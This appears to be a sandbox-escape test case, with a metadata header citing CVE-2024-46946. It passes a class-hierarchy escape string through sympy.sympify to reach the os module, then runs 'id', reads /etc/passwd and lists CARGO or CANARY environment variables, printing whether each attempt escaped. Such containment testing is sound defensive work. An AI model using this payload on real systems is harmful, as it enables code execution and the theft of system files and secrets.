# /// case
# technique = "string-built-names"
# analysis = ["string-execution", "code-in-text"]
# without_analysis = "contained"
# reference = "CVE-2024-46946"
# ///
# Symbolic mathematics reads its input with `eval`.
import sympy
print(sympy.sympify("x**2 + 1"))
try:
    found = sympy.sympify("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['sys'].modules['os']", convert_xor=False)
except BaseException as error:
    print("contained", type(error).__name__)
    found = sympy.sympify("load('os')", locals={"load": __import__})

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
